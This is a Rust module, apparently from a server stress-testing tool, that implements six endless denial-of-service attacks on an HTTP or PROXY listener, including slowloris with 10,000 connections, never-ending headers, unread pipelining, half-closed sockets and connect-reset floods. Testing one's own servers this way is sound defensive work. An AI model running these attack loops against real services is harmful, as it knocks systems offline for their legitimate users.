//! What attackers do, each again and again for as long as they run.

use std::net::SocketAddr;
use std::time::Duration;

use anyhow::{Context, Result};
use rustix::process::{Resource, Rlimit, getrlimit, setrlimit};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use tokio::task::JoinSet;
use tokio::time::sleep;

#[derive(Clone, Copy, Debug, Eq, PartialEq, clap::ValueEnum)]
pub(crate) enum Attack {
    Slowloris,
    EndlessHeaders,
    Pipelining,
    HalfClosed,
    BadProxyHeaders,
    ComeAndGo,
}

impl Attack {
    pub(super) const ALL: [Self; 6] = [
        Self::Slowloris,
        Self::EndlessHeaders,
        Self::Pipelining,
        Self::HalfClosed,
        Self::BadProxyHeaders,
        Self::ComeAndGo,
    ];

    pub(super) fn name_of(attack: Option<Self>) -> &'static str {
        match attack {
            None => "nobody",
            Some(Self::Slowloris) => "10000 slow connections",
            Some(Self::EndlessHeaders) => "endless headers",
            Some(Self::Pipelining) => "pipelining, nothing read",
            Some(Self::HalfClosed) => "half-closed sockets",
            Some(Self::BadProxyHeaders) => "bad PROXY headers",
            Some(Self::ComeAndGo) => "connect and close",
        }
    }

    /// As this program is told it.
    pub(super) fn word(self) -> &'static str {
        match self {
            Self::Slowloris => "slowloris",
            Self::EndlessHeaders => "endless-headers",
            Self::Pipelining => "pipelining",
            Self::HalfClosed => "half-closed",
            Self::BadProxyHeaders => "bad-proxy-headers",
            Self::ComeAndGo => "come-and-go",
        }
    }

    /// What the listener that is attacked is told of its connections.
    pub(super) fn opening(self) -> &'static str {
        match self {
            Self::BadProxyHeaders => "proxy",
            Self::Slowloris
            | Self::EndlessHeaders
            | Self::Pipelining
            | Self::HalfClosed
            | Self::ComeAndGo => "http",
        }
    }

    /// How many do so at a time.
    fn attackers(self) -> usize {
        if self == Self::Slowloris { 10_000 } else { 64 }
    }

    async fn once(self, at: SocketAddr) -> std::io::Result<()> {
        let mut stream = TcpStream::connect(at).await?;
        match self {
            Self::Slowloris => trickle(&mut stream).await,
            Self::EndlessHeaders => {
                let filler = b"X-Filler: aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa\r\n";
                endless(&mut stream, b"GET /healthz HTTP/1.1\r\n", filler).await
            }
            Self::Pipelining => pipeline(&mut stream).await,
            Self::HalfClosed => half_close(&mut stream).await,
            Self::BadProxyHeaders => endless(&mut stream, b"PROXY UNKNOWN ", b"no end ").await,
            // With a reset, or the attacker would run out of ports first.
            Self::ComeAndGo => stream.set_zero_linger(),
        }
    }
}

/// Attacks until this process is killed.
pub(super) async fn run(attack: Attack, at: SocketAddr) -> Result<()> {
    let limit = getrlimit(Resource::Nofile);
    let raised = Rlimit { current: limit.maximum, ..limit };
    setrlimit(Resource::Nofile, raised).context("cannot raise the limit of open files")?;
    let mut attackers = JoinSet::new();
    for _ in 0..attack.attackers() {
        attackers.spawn(async move {
            loop {
                // However it ended, there is a next time; who is refused comes back a little later.
                if attack.once(at).await.is_err() {
                    sleep(Duration::from_millis(10)).await;
                }
            }
        });
    }
    attackers.join_next().await;
    Ok(())
}

/// A header that never ends, a byte a second.
async fn trickle(stream: &mut TcpStream) -> std::io::Result<()> {
    stream.write_all(b"GET /healthz HTTP/1.1\r\nX-Slow: ").await?;
    loop {
        sleep(Duration::from_secs(1)).await;
        stream.write_all(b"a").await?;
    }
}

async fn endless(stream: &mut TcpStream, begin: &[u8], on: &[u8]) -> std::io::Result<()> {
    stream.write_all(begin).await?;
    loop {
        stream.write_all(on).await?;
    }
}

/// Requests without end, of whose answers none is read.
async fn pipeline(stream: &mut TcpStream) -> std::io::Result<()> {
    let many = b"GET /healthz HTTP/1.1\r\nHost: a\r\n\r\n".repeat(100);
    loop {
        stream.write_all(&many).await?;
    }
}

async fn half_close(stream: &mut TcpStream) -> std::io::Result<()> {
    stream.write_all(b"GET /healthz HTTP/1.1\r\nHost: a\r\n").await?;
    stream.shutdown().await?;
    stream.read_to_end(&mut Vec::new()).await.map(drop)
}
